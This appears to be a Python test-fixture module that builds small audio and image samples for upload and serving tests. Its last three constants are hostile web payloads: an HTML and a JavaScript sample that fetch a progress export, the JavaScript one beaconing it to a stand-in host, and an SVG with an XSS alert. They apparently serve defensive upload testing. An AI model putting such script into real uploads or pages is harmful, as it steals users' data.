"""Small real media files for upload and serving tests, made in the test itself."""

import io
import wave


def wav_bytes(seconds=0.2, rate=8000):
    """A valid mono 16-bit WAV of silence that browsers can decode."""
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(rate)
        out.writeframes(b"\x00\x00" * int(seconds * rate))
    return buffer.getvalue()


# MPEG-1 Layer III frame header (128 kbps, 44.1 kHz) and its padding.
MP3_FRAME = b"\xff\xfb\x90\x64" + b"\x00" * 413
# An ID3v2.4 tag header (empty tag) in front of the frame, as most encoders write.
MP3_WITH_ID3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + MP3_FRAME
# The first page of an Ogg Opus stream: "OggS", the page header, then "OpusHead".
OGG_OPUS = b"OggS\x00\x02" + b"\x00" * 22 + b"OpusHead\x01\x01\x38\x01\x80\xbb\x00\x00\x00\x00\x00"
OGG_VORBIS = b"OggS\x00\x02" + b"\x00" * 22 + b"\x01vorbis" + b"\x00" * 20
M4A = b"\x00\x00\x00\x20ftypM4A \x00\x00\x02\x00M4A isom" + b"\x00" * 16
WEBM = b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01" + b"\x00" * 20
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 32

HTML = b"<!doctype html><html><body><script>fetch('/progress/export.json')</script></body></html>"
JAVASCRIPT = (
    b"fetch('/progress/export.json').then(r => r.text()).then(t => navigator.sendBeacon('//x', t));"
)
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
